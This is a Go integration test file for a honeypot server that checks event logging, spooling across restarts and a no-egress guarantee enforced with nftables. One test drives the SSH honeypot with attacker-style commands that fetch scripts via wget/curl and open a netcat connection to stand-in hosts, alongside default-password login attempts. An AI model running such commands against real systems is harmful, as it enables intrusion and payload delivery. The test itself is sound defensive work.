package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vallum/vallum/internal/evidence"
	"github.com/vallum/vallum/internal/sensor"
	"github.com/vallum/vallum/internal/store"
)

// freePort returns a loopback TCP port that was free a moment ago.
func freePort(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	_, p, _ := net.SplitHostPort(ln.Addr().String())
	return p
}

// waitPort waits until addr accepts TCP connections.
func waitPort(t *testing.T, addr string) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err == nil {
			c.Close()
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s did not accept connections within 15s: %v", addr, err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// logEvents reads the event entries of a stopped server's log straight
// from its files, and counts each event ID.
func logEvents(t *testing.T, data string) (map[string]int, []sensor.Event) {
	t.Helper()
	files, err := store.OpenFiles(filepath.Join(data, logDir), slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	defer files.Close()
	st, err := files.State()
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]int{}
	var events []sensor.Event
	for i := range st.Size {
		ent, err := files.ReadEntry(i)
		if err != nil {
			t.Fatal(err)
		}
		h, err := evidence.DecodeHeader(ent.Header)
		if err != nil {
			t.Fatal(err)
		}
		if h.Kind != "event" {
			continue
		}
		var e sensor.Event
		if err := json.Unmarshal(ent.Payload, &e); err != nil {
			t.Fatalf("entry %d: %v", i, err)
		}
		ids[e.ID]++
		events = append(events, e)
	}
	return ids, events
}

// apiEvents lists the indexed events of a running server matching query.
func apiEvents(t *testing.T, s *server, query string) []sensor.Event {
	t.Helper()
	var out []sensor.Event
	from := int64(0)
	for {
		var page struct {
			Events []struct {
				Event *sensor.Event `json:"event"`
			} `json:"events"`
			Next int64 `json:"next"`
		}
		if err := json.Unmarshal(s.get(fmt.Sprintf("/api/v1/events?limit=1000&from=%d&%s", from, query), true), &page); err != nil {
			t.Fatal(err)
		}
		for _, e := range page.Events {
			if e.Event != nil {
				out = append(out, *e.Event)
			}
		}
		if page.Next == 0 {
			return out
		}
		from = page.Next
	}
}

// sensorProc is a running `vallum sensor`.
type sensorProc struct {
	cmd    *exec.Cmd
	stderr *watchBuffer
	done   chan struct{}
}

func startSensor(t *testing.T, dir string, args ...string) *sensorProc {
	t.Helper()
	out := &watchBuffer{addr: make(chan string, 1)}
	p := &sensorProc{cmd: exec.Command(vallumBin, append([]string{"sensor"}, args...)...), stderr: &watchBuffer{}, done: make(chan struct{})}
	p.cmd.Dir = dir
	p.cmd.Stdout, p.cmd.Stderr = out, p.stderr
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { p.cmd.Wait(); close(p.done) }()
	t.Cleanup(func() {
		p.cmd.Process.Signal(syscall.SIGKILL)
		<-p.done
		if t.Failed() {
			t.Logf("sensor stderr:\n%s", p.stderr)
		}
	})
	deadline := time.Now().Add(15 * time.Second)
	for !strings.Contains(out.String(), "vallum sensor:") {
		select {
		case <-p.done:
			t.Fatalf("vallum sensor exited: %s", p.stderr)
		default:
		}
		if time.Now().After(deadline) {
			t.Fatalf("vallum sensor didn't start: %s", p.stderr)
		}
		time.Sleep(20 * time.Millisecond)
	}
	return p
}

// probe sends one request to the HTTP honeypot; errors are the test's.
func probe(t *testing.T, addr string, i int) {
	t.Helper()
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	resp, err := c.Get(fmt.Sprintf("http://%s/probe-%d", addr, i))
	if err != nil {
		t.Fatalf("probe %d: %v", i, err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
}

var probePath = regexp.MustCompile(`/probe-(\d+)`)

// probesIn counts the request events of each probe.
func probesIn(events []sensor.Event) map[int]int {
	seen := map[int]int{}
	for _, e := range events {
		if m := probePath.FindStringSubmatch(e.Command); m != nil && e.Kind == sensor.KindRequest {
			n, _ := strconv.Atoi(m[1])
			seen[n]++
		}
	}
	return seen
}

// A remote sensor keeps generating events while the server is killed and
// restarted on the same data directory; every event reaches the log
// exactly once.
func TestSensorShipsThroughServerRestart(t *testing.T) {
	dir := t.TempDir()
	apiPort := freePort(t)
	srv := startServer(t, dir, "--listen", "127.0.0.1:"+apiPort)
	potAddr := "127.0.0.1:" + freePort(t)
	cfg := filepath.Join(dir, "sensor.yaml")
	os.WriteFile(cfg, fmt.Appendf(nil, "sensors:\n  name: edge-1\n  http: {enabled: true, listen: [%q]}\n", potAddr), 0o600)
	sp := startSensor(t, dir, "--server", srv.url, "--token", srv.token, "--config", cfg, "--data", filepath.Join(dir, "sensor"))
	waitPort(t, potAddr)

	const n = 240
	for i := range n {
		switch i {
		case n / 3:
			srv.kill() // mid-stream, without warning
		case 2 * n / 3:
			srv = startServer(t, dir, "--listen", "127.0.0.1:"+apiPort)
		}
		probe(t, potAddr, i)
	}
	deadline := time.Now().Add(40 * time.Second)
	for {
		seen := probesIn(apiEvents(t, srv, "sensor=edge-1/http"))
		if len(seen) == n {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the server has %d of %d probes after 40s", len(seen), n)
		}
		time.Sleep(100 * time.Millisecond)
	}
	sp.cmd.Process.Signal(syscall.SIGTERM)
	<-sp.done
	if code := srv.stop(syscall.SIGTERM); code != 0 {
		t.Fatalf("server exited %d", code)
	}
	ids, events := logEvents(t, srv.data)
	for id, c := range ids {
		if c != 1 {
			t.Errorf("event %s is in the log %d times", id, c)
		}
	}
	seen := probesIn(events)
	for i := range n {
		if seen[i] != 1 {
			t.Errorf("probe %d: %d request events in the log, want 1", i, seen[i])
		}
	}
	if !strings.Contains(sp.stderr.String(), "couldn't ship events; they stay in the spool") {
		t.Errorf("the sensor never had to spool: the server was not down while it shipped")
	}
}

func TestSensorRefusesPlainHTTPToARemoteServer(t *testing.T) {
	r := runBin(t, t.TempDir(), "", "sensor", "--server", "http://192.0.2.1:8080", "--token", "x")
	if r.code != 2 || !strings.Contains(r.stderr, "plain http is allowed only to a loopback address") {
		t.Errorf("got exit %d: %s", r.code, r.stderr)
	}
}

// `vallum serve` with honeypots enabled turns an SSH login attempt and an
// HTTP form post into "event" entries.
func TestServeHoneypotsLogEvents(t *testing.T) {
	for _, prog := range []string{"ssh", "sshpass", "curl"} {
		if _, err := exec.LookPath(prog); err != nil {
			t.Skipf("needs %s: %v", prog, err)
		}
	}
	dir := t.TempDir()
	sshAddr, httpAddr := "127.0.0.1:"+freePort(t), "127.0.0.1:"+freePort(t)
	cfg := filepath.Join(dir, "vallum.yaml")
	os.WriteFile(cfg, fmt.Appendf(nil, "sensors:\n  name: hq\n  ssh: {enabled: true, listen: %q}\n  http: {enabled: true, listen: [%q]}\n", sshAddr, httpAddr), 0o600)
	srv := startServer(t, dir, "--config", cfg)
	waitPort(t, sshAddr)
	waitPort(t, httpAddr)
	_, sshPort, _ := net.SplitHostPort(sshAddr)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	ssh := exec.CommandContext(ctx, "sshpass", "-p", "Winter2026!", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1", "-p", sshPort, "admin@127.0.0.1", "id")
	ssh.CombinedOutput() // the honeypot decides whether to let it in; either way it is an event
	out, err := exec.CommandContext(ctx, "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-d", "log=admin&pwd=Winter2026!", "http://"+httpAddr+"/wp-login.php").Output()
	if err != nil {
		t.Fatalf("curl: %v %s", err, out)
	}
	deadline := time.Now().Add(20 * time.Second)
	for {
		var sshAuth, httpAuth bool
		for _, e := range apiEvents(t, srv, "kind=auth") {
			if c := e.Credentials; c != nil && c.Password == "Winter2026!" {
				sshAuth = sshAuth || e.Sensor == "hq/ssh" && c.Username == "admin"
				httpAuth = httpAuth || e.Sensor == "hq/http"
			}
		}
		if sshAuth && httpAuth {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("auth events: ssh %v, http %v; want both", sshAuth, httpAuth)
		}
		time.Sleep(50 * time.Millisecond)
	}
	srv.stop(syscall.SIGTERM)
	ids, events := logEvents(t, srv.data)
	var fromSSH, fromHTTP int
	for _, e := range events {
		if ids[e.ID] != 1 {
			t.Errorf("event %s logged %d times", e.ID, ids[e.ID])
		}
		switch e.Sensor {
		case "hq/ssh":
			fromSSH++
		case "hq/http":
			fromHTTP++
		}
	}
	if fromSSH == 0 || fromHTTP == 0 {
		t.Errorf("event entries: %d from ssh, %d from http; want some of each", fromSSH, fromHTTP)
	}
}

// egressRules count, inside the test's namespace, every packet that
// leaves by an interface other than loopback (and drop it) — except the
// IPv6 neighbour discovery and multicast listener reports the kernel
// itself sends when an interface comes up, counted apart —, every UDP
// packet (no honeypot here speaks UDP, so a DNS lookup would show), and
// every TCP connection attempt to a port that is not one of ours. The
// namespace has a veth pair with default routes through it, so a
// connection attempt to anywhere is routed, reaches the output hook and
// is counted, instead of failing before it with "network unreachable".
const egressRules = `
table inet vallum_egress {
	counter egress {}
	counter kernel_nd {}
	counter udp_any {}
	counter syn_ours {}
	counter syn_other {}
	set ours { type inet_service; elements = { %s } }
	chain out {
		type filter hook output priority 0; policy accept;
		oifname != "lo" icmpv6 type { nd-router-solicit, nd-neighbor-solicit, nd-neighbor-advert, mld-listener-report, mld2-listener-report } counter name "kernel_nd" drop
		oifname != "lo" counter name "egress" log prefix "vallum-egress: " drop
		meta l4proto udp counter name "udp_any"
		tcp flags & (syn | ack) == syn tcp dport @ours counter name "syn_ours"
		tcp flags & (syn | ack) == syn tcp dport != @ours counter name "syn_other"
	}
}
`

// nsCounters reads the namespace's counters.
func nsCounters(t *testing.T, ns string) map[string]int64 {
	t.Helper()
	out, err := exec.Command("ip", "netns", "exec", ns, "nft", "-j", "list", "counters", "table", "inet", "vallum_egress").Output()
	if err != nil {
		t.Fatalf("nft list counters: %v", err)
	}
	var doc struct {
		Nftables []struct {
			Counter *struct {
				Name    string `json:"name"`
				Packets int64  `json:"packets"`
			} `json:"counter"`
		} `json:"nftables"`
	}
	if err := json.Unmarshal(out, &doc); err != nil {
		t.Fatalf("nft -j: %v\n%s", err, out)
	}
	c := map[string]int64{}
	for _, o := range doc.Nftables {
		if o.Counter != nil {
			c[o.Counter.Name] = o.Counter.Packets
		}
	}
	return c
}

// The honeypots (and the whole server around them) open no outbound
// connection while real clients drive every one of them: run inside a
// network namespace whose only way out is counted.
func TestHoneypotsHaveNoEgress(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: creates a network namespace and nftables rules in it")
	}
	for _, prog := range []string{"ip", "nft", "curl", "ssh", "sshpass", "nmap"} {
		if _, err := exec.LookPath(prog); err != nil {
			t.Skipf("needs %s: %v", prog, err)
		}
	}
	ns := fmt.Sprintf("vallum-noegress-%d", os.Getpid())
	in := func(args ...string) *exec.Cmd {
		return exec.Command("ip", append([]string{"netns", "exec", ns}, args...)...)
	}
	must := func(c *exec.Cmd) {
		t.Helper()
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("%v: %v\n%s", c.Args, err, out)
		}
	}
	must(exec.Command("ip", "netns", "add", ns))
	t.Cleanup(func() { exec.Command("ip", "netns", "del", ns).Run() })
	must(in("ip", "link", "set", "lo", "up"))
	// A veth pair, both ends inside: the routes lead out through it, so
	// an attempt to connect anywhere reaches the output hook.
	if out, err := in("ip", "link", "add", "veg0", "type", "veth", "peer", "name", "veg1").CombinedOutput(); err != nil {
		t.Skipf("needs veth devices (to route and count attempts): %v %s", err, out)
	}
	must(in("ip", "addr", "add", "10.254.0.1/24", "dev", "veg0"))
	must(in("ip", "link", "set", "veg0", "up"))
	must(in("ip", "link", "set", "veg1", "up"))
	must(in("ip", "route", "add", "default", "dev", "veg0"))
	must(in("ip", "-6", "route", "add", "default", "dev", "veg0"))

	ports := map[string]string{"api": "18080", "ssh": "12222", "http": "18081", "https": "18443", "ftp": "12121", "telnet": "12323",
		"redis": "16379", "mysql": "13306", "smb": "10445", "rdp": "13389"}
	var list []string
	for _, p := range ports {
		list = append(list, p)
	}
	rules := exec.Command("ip", "netns", "exec", ns, "nft", "-f", "-")
	rules.Stdin = strings.NewReader(fmt.Sprintf(egressRules, strings.Join(list, ", ")))
	must(rules)

	dir := t.TempDir()
	cfg := filepath.Join(dir, "vallum.yaml")
	l := func(name string) string { return "127.0.0.1:" + ports[name] }
	os.WriteFile(cfg, fmt.Appendf(nil, `sensors:
  name: ns
  ssh: {enabled: true, listen: %q, accept: {policy: any}}
  http: {enabled: true, listen: [%q], tls_listen: [%q]}
  tcp:
    ftp: {enabled: true, listen: [%q]}
    telnet: {enabled: true, listen: [%q]}
    redis: {enabled: true, listen: [%q]}
    mysql: {enabled: true, listen: [%q]}
    smb: {enabled: true, listen: [%q]}
    rdp: {enabled: true, listen: [%q]}
`, l("ssh"), l("http"), l("https"), l("ftp"), l("telnet"), l("redis"), l("mysql"), l("smb"), l("rdp")), 0o600)
	out := &watchBuffer{addr: make(chan string, 1)}
	errb := &watchBuffer{}
	srv := in(vallumBin, "serve", "--config", cfg, "--data", filepath.Join(dir, "data"), "--listen", l("api"))
	srv.Stdout, srv.Stderr = out, errb
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { srv.Wait(); close(done) }()
	t.Cleanup(func() {
		srv.Process.Signal(syscall.SIGKILL)
		<-done
		if t.Failed() {
			t.Logf("server stderr:\n%s", errb)
		}
	})
	select {
	case <-out.addr:
	case <-done:
		t.Fatalf("server exited: %s", errb)
	case <-time.After(20 * time.Second):
		t.Fatalf("server did not start: %s", errb)
	}
	for _, name := range []string{"ssh", "http", "https", "ftp", "telnet", "redis", "mysql", "smb", "rdp"} {
		deadline := time.Now().Add(15 * time.Second)
		for in("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+ports[name]).Run() != nil {
			if time.Now().After(deadline) {
				t.Fatalf("the %s honeypot does not accept connections", name)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}

	// Drive every honeypot with real clients, from inside the namespace.
	run := func(args ...string) string {
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		c := exec.CommandContext(ctx, "ip", append([]string{"netns", "exec", ns}, args...)...)
		b, _ := c.CombinedOutput() // refusals are expected; what counts is the traffic
		return string(b)
	}
	run("curl", "-s", "-o", "/dev/null", "http://"+l("http")+"/")
	run("curl", "-s", "-o", "/dev/null", "-d", "log=admin&pwd=x", "http://"+l("http")+"/wp-login.php")
	run("curl", "-sk", "-o", "/dev/null", "https://"+l("https")+"/.env")
	shell := run("sshpass", "-p", "toor", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-p", ports["ssh"], "root@127.0.0.1",
		"uname -a; id; wget http://198.51.100.7/x.sh; curl -s http://203.0.113.9/y; curl -s http://example.com/; ping -c1 192.0.2.1; nc 198.51.100.8 4444; cat /proc/cpuinfo")
	if !strings.Contains(shell, "Linux") {
		t.Errorf("the SSH honeypot's shell did not answer uname: %q", shell)
	}
	run("curl", "-s", "--max-time", "5", "ftp://anonymous:x@"+l("ftp")+"/")
	run("nmap", "-n", "-Pn", "-sV", "--version-light", "-p", strings.Join([]string{ports["ftp"], ports["telnet"], ports["redis"], ports["mysql"], ports["smb"], ports["rdp"]}, ","), "127.0.0.1")

	c := nsCounters(t, ns)
	t.Logf("counters after driving every honeypot: %v", c)
	if c["egress"] != 0 || c["udp_any"] != 0 || c["syn_other"] != 0 {
		t.Errorf("outbound attempts seen: %d packets out of the namespace, %d UDP packets, %d TCP connection attempts to other ports (counters %v)",
			c["egress"], c["udp_any"], c["syn_other"], c)
	}
	if c["syn_ours"] < 10 {
		t.Errorf("only %d connections to the honeypots were counted: the rules do not see the traffic", c["syn_ours"])
	}
	// The honeypots did see the clients.
	tok, _ := os.ReadFile(filepath.Join(dir, "data", "admin.token"))
	stats := run("curl", "-s", "-H", "Authorization: Bearer "+strings.TrimSpace(string(tok)), "http://"+l("api")+"/api/v1/events/stats")
	var st struct {
		Events struct {
			Total int `json:"total"`
		} `json:"events"`
	}
	if json.Unmarshal([]byte(stats), &st); st.Events.Total < 10 {
		t.Errorf("the server logged %d events from the clients, want many: %s", st.Events.Total, stats)
	}
	// Control: an outbound attempt from inside the namespace is counted.
	run("curl", "-s", "--max-time", "1", "http://198.51.100.1/")
	if c := nsCounters(t, ns); c["egress"] == 0 {
		t.Errorf("a deliberate outbound connection was not counted: the test cannot see egress (counters %v)", c)
	}
}
